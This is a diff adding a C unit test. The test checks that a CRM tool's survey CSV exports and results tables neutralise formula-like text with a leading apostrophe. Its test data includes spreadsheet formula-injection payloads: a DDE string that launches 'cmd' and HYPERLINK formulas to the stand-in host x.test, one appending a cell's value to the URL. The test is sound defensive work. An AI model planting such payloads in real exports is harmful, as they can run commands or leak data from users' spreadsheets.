@@ -297,6 +297,126 @@ Test(survey_results, the_export_runs_no_formula)
 	cr_expect(strstr(csv, ",不满意,,1,,\"'=HYPERLINK(\"\"http://x.test/?\"\"&B2,\"\"看\"\")\"\r\n"), "%s", csv);
 }
 
+/* A questionnaire whose question and option texts start as formulas do. */
+static const char formulas[] = "# 公式\n"
+			       "1. =1+1 选哪个？ [single]\n"
+			       "   A. -1 以下\n"
+			       "   B. +1 以上\n"
+			       "   C. @其他 [other]\n"
+			       "2. 差多少 [number, min -10, max 10]\n"
+			       "3. 建议 [text]\n";
+
+/* What each of F1…F5 writes: a formula starting with = + - @ or a tab,
+ * as a free text and as the text of "other"; F1 gives a negative number. */
+static const char *const typed[][2] = {
+	{ "F1", "=HYPERLINK(\"http://x.test/\",\"看\")" },
+	{ "F2", "+1+cmd|' /C calc'!A0" },
+	{ "F3", "-2+3" },
+	{ "F4", "@SUM(1+1)" },
+	{ "F5", "\t=1" },
+};
+static int answering; /* the row of typed[] respond() fills in */
+
+static void f_all(struct survey_answers *a, const struct survey_template *t)
+{
+	(void)t;
+	set(a, 1, choices, "C");
+	set(a, 1, other, typed[answering][1]);
+	set(a, 2, value, answering ? "5" : "-3");
+	set(a, 3, text, typed[answering][1]);
+}
+
+/* A cell as the export's guard writes it: a ' before a formula, quoted. */
+static char *guarded(const char *v)
+{
+	struct buf b = BUF_INIT;
+	int quote = strpbrk(v, ",\"\r\n") != NULL;
+
+	buf_adds(&b, quote ? "\"'" : "'");
+	for (const char *p = v; *p; p++) {
+		if (*p == '"')
+			buf_addch(&b, '"');
+		buf_addch(&b, *p);
+	}
+	buf_adds(&b, quote ? "\"" : "");
+	return buf_detach(&b, NULL);
+}
+
+/* Every table of survey results that shows words from outside (the
+ * respondents' texts, the targets' names, the questionnaire's texts)
+ * writes them in CSV as the export does, never as a formula a spreadsheet
+ * runs; counts, shares, means and negative numbers stay numbers. */
+Test(survey_results, the_results_run_no_formula)
+{
+	char *sat = xstrfmt("%s/formulas.txt", dir);
+
+	test_write_file(sat, formulas);
+	cr_assert_eq(crmgate("survey template add 公式表 '%s'", sat), 0, "%s", errout.data);
+	free(sat);
+	import("customer", "code,name\nC9,=公司\n");
+	import("contact", "code,customer_code,name,email\n"
+			  "F1,C9,=甲,f1@example.test\nF2,C9,+乙,f2@example.test\nF3,C9,-丙,f3@example.test\n"
+			  "F4,C9,@丁,f4@example.test\nF5,C9,戊,f5@example.test\n");
+	cr_assert_eq(crmgate("survey create 公式 --template 公式表 --targets contact --where \"customer.code = 'C9'\""
+			     " --channel email"),
+		     0, "%s", errout.data);
+	cr_assert_eq(crmgate("survey launch 公式 --yes"), 0, "%s", errout.data);
+	for (answering = 0; answering < (int)(sizeof(typed) / sizeof(typed[0])); answering++)
+		respond(typed[answering][0], "link", NULL, f_all);
+
+	/* the texts: each free text and "other" text, guarded */
+	cr_assert_eq(crmgate("survey export 公式"), 0, "%s", errout.data);
+	char *export = xstrdup(out.data);
+	cr_assert_eq(crmgate("--format csv survey results 公式 --table texts"), 0, "%s", errout.data);
+	for (size_t i = 0; i < sizeof(typed) / sizeof(typed[0]); i++) {
+		char *cell = guarded(typed[i][1]);
+		char *other = xstrfmt("\r\n1,C,%s,%s\r\n", typed[i][0], cell);
+		char *text = xstrfmt("\r\n3,,%s,%s\r\n", typed[i][0], cell);
+		char *in_export = xstrfmt(",%s\r\n", cell);
+		cr_expect(strstr(out.data, other), "want %s in:\n%s", other, out.data);
+		cr_expect(strstr(out.data, text), "want %s in:\n%s", text, out.data);
+		/* exactly as the export writes the same words */
+		cr_expect(strstr(export, in_export), "want %s in:\n%s", in_export, export);
+		free(in_export);
+		free(text);
+		free(other);
+		free(cell);
+	}
+	/* the questionnaire's texts; the counts and shares plain numbers */
+	cr_assert_eq(crmgate("--format csv survey results 公式 --table options"), 0, "%s", errout.data);
+	cr_expect_str_eq(out.data, "question,label,text,other,count,share\r\n"
+				   "1,A,'-1 以下,false,0,0\r\n"
+				   "1,B,'+1 以上,false,0,0\r\n"
+				   "1,C,'@其他,true,5,1\r\n");
+	cr_assert_eq(crmgate("--format csv survey results 公式 --table questions"), 0, "%s", errout.data);
+	cr_expect_str_eq(out.data, "question,type,text,answered,mean,median,min,max\r\n"
+				   "1,single,'=1+1 选哪个？,5,,,,\r\n"
+				   "2,number,差多少,5,3.4,5,-3,5\r\n"
+				   "3,text,建议,5,,,,\r\n");
+	/* a negative number given is a number */
+	cr_assert_eq(crmgate("--format csv survey results 公式 --table distribution"), 0, "%s", errout.data);
+	cr_expect_str_eq(out.data, "question,value,count,share\r\n2,-3,1,0.2\r\n2,5,4,0.8\r\n");
+	/* a breakdown by the targets' names: each formula guarded, a plain name plain */
+	cr_assert_eq(crmgate("--format csv survey results 公式 --by name --table channels"), 0, "%s", errout.data);
+	cr_expect_str_eq(out.data, "group,name,way,answered\r\n"
+				   "0,,link,5\r\n0,,email,0\r\n0,,sms,0\r\n"
+				   "1,'+乙,link,1\r\n1,'+乙,email,0\r\n1,'+乙,sms,0\r\n"
+				   "2,'-丙,link,1\r\n2,'-丙,email,0\r\n2,'-丙,sms,0\r\n"
+				   "3,'=甲,link,1\r\n3,'=甲,email,0\r\n3,'=甲,sms,0\r\n"
+				   "4,'@丁,link,1\r\n4,'@丁,email,0\r\n4,'@丁,sms,0\r\n"
+				   "5,戊,link,1\r\n5,戊,email,0\r\n5,戊,sms,0\r\n");
+	cr_assert_eq(crmgate("--format csv survey results 公式 --by customer.name --table summary"), 0, "%s",
+		     errout.data);
+	cr_expect_str_eq(out.data,
+			 "group,customer.name,invited,skipped,sent,delivered,failed,answered,response_rate\r\n"
+			 "0,,5,0,0,0,0,5,1\r\n"
+			 "1,'=公司,5,0,0,0,0,5,1\r\n");
+	/* the export: the names, the option chosen and the texts guarded, the number not */
+	cr_expect(strstr(export, "\r\nF1,'=甲,link,"), "%s", export);
+	cr_expect(strstr(export, ",\"'@其他: =HYPERLINK(\"\"http://x.test/\"\",\"\"看\"\")\",-3,"), "%s", export);
+	free(export);
+}
+
 Test(survey_results, export_one_row_per_respondent)
 {
 	char *file = xstrfmt("%s/export.csv", dir), *csv;
